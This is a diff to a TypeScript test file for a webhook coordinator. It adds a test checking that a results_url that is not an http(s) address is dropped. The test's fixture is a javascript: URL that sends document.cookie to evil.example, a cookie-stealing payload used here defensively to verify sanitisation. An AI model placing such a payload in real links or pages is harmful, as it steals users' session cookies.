@@ -12,7 +12,11 @@ import { type Reply, startScriptedServer } from '../helpers/scripted-server.ts';
 
 /** A small stateful stand-in for the API: jobs complete when the test says so. */
 async function startApi(
-  behaviour: { startReply?: () => Reply | undefined; result?: () => Record<string, unknown> } = {},
+  behaviour: {
+    startReply?: () => Reply | undefined;
+    result?: () => Record<string, unknown>;
+    resultsUrl?: string;
+  } = {},
 ) {
   const jobs = new Map<string, { url: string; status: string }>();
   let next = 1;
@@ -31,7 +35,12 @@ async function startApi(
       return job.status === 'complete'
         ? {
             status: 200,
-            body: { job_id: jobId, status: 'complete', geo_score: 72, results_url: 'http://r/x' },
+            body: {
+              job_id: jobId,
+              status: 'complete',
+              geo_score: 72,
+              results_url: behaviour.resultsUrl ?? 'http://r/x',
+            },
           }
         : { status: 200, body: { job_id: jobId, status: job.status } };
     }
@@ -54,9 +63,11 @@ async function setup(
     maxInFlight?: number;
     recheckDelaysMs?: number[];
     now?: () => Date;
+    resultsUrl?: string;
   } = {},
 ) {
   const api = await startApi({
+    ...(options.resultsUrl ? { resultsUrl: options.resultsUrl } : {}),
     ...(options.startReply ? { startReply: options.startReply } : {}),
     ...(options.result ? { result: options.result } : {}),
   });
@@ -143,6 +154,19 @@ describe('coordinator', () => {
       body: { ok: true, reason: 'duplicate' },
     });
     expect(server.requests.length).toBe(requestsBefore);
+  });
+
+  it('keeps the score but drops a results_url that is not an http(s) address, which the hosts would put in a link', async () => {
+    const secret = generateWebhookSecret();
+    const { jobs, coordinator, store } = await setup({
+      secret,
+      resultsUrl: 'javascript:fetch("https://evil.example/?c="+document.cookie)',
+    });
+    await coordinator.publish({ key: 'doc', url: 'https://example.com/a' });
+    jobs.set('job_1', { url: 'https://example.com/a', status: 'complete' });
+    const outcome = await coordinator.handleWebhook(await signedDelivery(secret, completed('job_1')));
+    expect(outcome.status).toBe(200);
+    expect(await store.get('doc')).toMatchObject({ state: 'complete', geoScore: 72, resultsUrl: null });
   });
 
   it('rejects forged and stale webhooks with 401 and changes nothing', async () => {
